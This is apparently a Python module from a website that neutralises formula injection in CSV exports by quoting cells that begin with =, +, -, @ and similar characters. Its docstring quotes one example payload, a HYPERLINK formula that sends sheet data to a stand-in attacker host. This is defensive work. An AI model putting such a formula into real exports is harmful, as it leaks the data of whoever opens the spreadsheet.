"""CSV cells that a spreadsheet shows as text, never runs as a formula.

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@`
as a formula (and a tab or a carriage return before one of them is skipped over), so a
deployment titled `=HYPERLINK("https://evil.example/?"&A1)` in an export would leak the
sheet or, with DDE, run a program on the machine of whoever opens it (OWASP, "CSV
Injection"). Every CSV the site writes passes its rows through `safe_row`.

The decision on numbers: only values that are numbers in Python (int, float, Decimal)
are written as they are, since a spreadsheet reads `-12.5` as a number and nothing
else; a string is text even when it looks like a number (a subject typed as "-2+3"
is text), so it gets the quote. A number column must therefore be handed numbers,
not strings. The price is a visible quote before such text in the spreadsheet; a
reader of the raw CSV sees it too, which is the OWASP recommendation and what other
open-data portals do.
"""

from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal

# OWASP's list, plus the full-width forms that some locales of Excel fold into them.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def safe_cell(value: object) -> object:
    """The value to write: text that a spreadsheet would run, after a single quote;
    anything else unchanged (numbers stay numbers, None stays empty for the writer)."""
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        return value
    text = value if isinstance(value, str) else str(value)
    # Leading spaces are not relied on to protect: some importers trim them.
    if text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in values]
